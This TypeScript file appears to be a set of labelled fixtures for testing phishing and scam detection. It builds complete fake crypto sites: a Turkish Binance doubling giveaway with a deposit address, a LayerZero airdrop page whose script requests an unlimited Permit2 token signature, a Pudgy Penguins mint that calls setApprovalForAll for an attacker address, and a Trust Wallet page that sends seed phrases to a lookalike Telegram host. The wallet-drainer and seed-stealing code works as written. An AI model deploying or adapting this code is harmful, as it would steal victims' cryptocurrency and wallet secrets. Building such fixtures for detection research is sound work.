import { redirectRoute, type Entry } from '../entry.js';
import { doc, pic, js, json, html, tag, baseCss } from '../parts/w-kit.js';

const walletJs = (spender: string, mode: 'permit' | 'approveAll' | 'transfer') => `(function(){
var SP='${spender}',st=document.getElementById('st');
function say(t){if(st)st.textContent=t}
async function go(){
 if(!window.ethereum){say('No wallet detected. Install MetaMask or open this page in Trust Wallet browser.');return}
 var acc=await ethereum.request({method:'eth_requestAccounts'});var me=acc[0];say('Checking eligibility for '+me.slice(0,6)+'…');
 var bal=await ethereum.request({method:'eth_getBalance',params:[me,'latest']});
 fetch('/api/w',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:me,b:bal,h:location.host})});
 ${mode === 'permit'
   ? `var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{details:[{token:'0xdAC17F958D2ee523a2206206994597C13D831ec7',amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:'0'},{token:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:'0'}],spender:SP,sigDeadline:'281474976710655'}};
 var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[me,JSON.stringify(typed)]});
 fetch('/api/s',{method:'POST',body:JSON.stringify({a:me,s:sig})});say('Claim submitted! Tokens will arrive within 24h.');`
   : mode === 'approveAll'
   ? `var data='0xa22cb465'+SP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
 await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D',data:data}]});say('Mint confirmed!');`
   : `var v='0x'+(BigInt(bal)*95n/100n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:SP,value:v}]});say('Done.');`}
}
document.querySelectorAll('[data-connect]').forEach(function(b){b.addEventListener('click',function(e){e.preventDefault();go().catch(function(e){say('Error: '+(e&&e.message||e)+' — please try again')})})});
})();`;

export const entries: Entry[] = [
  {
    id: 'w-scam-crypto-giveaway-binance-etkinlik-tr',
    label: 'scam',
    kind: 'crypto-giveaway',
    url: 'https://binance-etkinlik.com.tr-kampanya.net/usdt',
    body: doc({
      lang: 'tr',
      title: 'Binance Türkiye – 10.000.000 USDT Yılbaşı Etkinliği',
      css: `body{margin:0;background:#0b0e11;color:#eaecef;font-family:BinancePlex,Arial,sans-serif}.h{padding:14px 30px;color:#f0b90b;font-weight:700;font-size:22px}.c{max-width:640px;margin:auto;padding:20px}
.b{background:#f0b90b;color:#000;border:0;padding:12px 28px;border-radius:4px;font-weight:700}.addr{background:#1e2329;padding:12px;font-family:monospace;word-break:break-all}`,
      body: `<div class="h">BINANCE</div><div class="c"><h1>10.000.000 USDT Dağıtıyoruz! 🎄</h1><p>Binance Türkiye, 5 milyon kullanıcıya ulaşmayı kutluyor. Etkinliğe katılın: gönderdiğiniz USDT (TRC20) miktarının <b>2 katını</b> anında geri alın.</p>
<ol><li>Minimum 100 USDT, maksimum 50.000 USDT gönderin</li><li>Aşağıdaki adrese transfer edin (TRC20)</li><li>İşlem onaylandıktan sonra 2 katı otomatik olarak cüzdanınıza gönderilir</li></ol>
<div class="addr">TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE</div><p>Kalan süre: <b id="t">02:14:33</b></p>
<p style="font-size:12px;color:#848e9c">Bu etkinlik yalnızca Türkiye’deki kullanıcılar içindir. © 2025 Binance TR</p></div>`,
    }),
  },
  {
    id: 'w-drain-airdrop-claim-permit2',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim.layerzero-airdrop.network/season-3',
    body: doc({
      title: 'LayerZero | Season 3 Airdrop Claim',
      css: `body{margin:0;background:#000;color:#fff;font-family:Inter,Arial,sans-serif;text-align:center}.n{display:flex;justify-content:space-between;padding:18px 40px;border-bottom:1px solid #222}
.c{max-width:560px;margin:80px auto}.b{background:#fff;color:#000;border:0;padding:14px 40px;border-radius:999px;font-weight:700;cursor:pointer}.s{color:#888;font-size:13px}`,
      body: `<div class="n"><b>LayerZero</b><button class="b" data-connect style="padding:8px 18px">Connect Wallet</button></div>
<div class="c"><h1>Season 3 ZRO Distribution is live</h1><p>Eligible wallets can claim their ZRO allocation until the snapshot closes. Connect your wallet to check eligibility.</p>
<button class="b" data-connect>Check eligibility &amp; claim</button><p id="st" class="s"></p>
<p class="s">Total distributed: 23,834,112 ZRO · 1,211,904 wallets claimed</p></div>`,
      scripts: `<script src="/assets/claim.7c1e2.js"></script>`,
    }),
    routes: {
      'claim.layerzero-airdrop.network/assets/claim.7c1e2.js': js(walletJs('0x7a16ff8270133f063aab6c9977183d9e72835428', 'permit')),
      'claim.layerzero-airdrop.network/api/w': json({ ok: true }),
      'claim.layerzero-airdrop.network/api/s': json({ ok: true }),
    },
  },
  {
    id: 'w-drain-free-mint-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://mint.pudgy-penguins-xmas.xyz/',
    body: doc({
      title: 'Pudgy Penguins ❄ Holiday Free Mint',
      css: `body{margin:0;background:#d8ecff;color:#00142d;font-family:'Comic Sans MS',Arial,sans-serif;text-align:center}.c{max-width:520px;margin:60px auto;background:#fff;border-radius:24px;padding:30px;box-shadow:0 10px 30px #0002}
.b{background:#00142d;color:#fff;border:0;padding:14px 40px;border-radius:14px;font-size:18px}img{width:220px;height:220px;border-radius:20px}`,
      body: `<div class="c"><img src="/pengu.png" alt=""><h1>Holiday Free Mint</h1><p>Holders of Pudgy Penguins or Lil Pudgys can mint a free <b>Frosty Pengu</b> (only gas). 2,222 supply, 1,804 minted.</p>
<button class="b" data-connect>Connect &amp; Mint</button><p id="st"></p><p style="font-size:12px">Follow @pudgypenguins · Snapshot verified</p></div>`,
      scripts: `<script>${walletJs('0x0000db5c8b030ae20308ac975898e09741e70000', 'approveAll')}</script>`,
    }),
    routes: { 'mint.pudgy-penguins-xmas.xyz/pengu.png': pic(160, 200, 240), 'mint.pudgy-penguins-xmas.xyz/api/w': json({ ok: true }) },
  },
  {
    id: 'w-phish-wallet-seed-phrase-sync',
    label: 'phishing',
    kind: 'seed-phrase',
    url: 'https://trustwallet-sync.app-validate.com/import',
    body: doc({
      title: 'Trust Wallet – Validate your wallet',
      css: `body{margin:0;background:#f4f6fb;font-family:Arial,sans-serif}.c{max-width:460px;margin:60px auto;background:#fff;border-radius:14px;padding:28px}textarea{width:100%;height:110px;border:1px solid #ccd;border-radius:8px;padding:10px;box-sizing:border-box}
button{width:100%;background:#0500ff;color:#fff;border:0;padding:14px;border-radius:24px;font-weight:700;margin-top:12px}`,
      body: `<div class="c"><h2>🛡 Wallet validation required</h2><p>Due to the new EU MiCA regulation, all self-custody wallets must be validated before 31 December. Unvalidated wallets will be restricted.</p>
<p>Enter your 12 or 24-word Secret Phrase to validate your wallet. Your phrase is encrypted end-to-end.</p>
<form id="f"><textarea name="phrase" placeholder="Secret phrase (words separated by spaces)"></textarea><button>Validate</button></form></div>`,
      scripts: `<script>f.onsubmit=function(e){e.preventDefault();var p=f.phrase.value.trim().split(/\\s+/);if(p.length!==12&&p.length!==24){alert('Invalid phrase');return}
fetch('https://api.telegram.org.trustwallet-sync.app-validate.com/bot/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-1002188',text:p.join(' ')})}).finally(function(){alert('Validation in progress. This may take up to 48 hours.')})}</script>`,
    }),
    routes: { 'api.telegram.org.trustwallet-sync.app-validate.com/bot/sendMessage': json({ ok: true }) },
  },
];
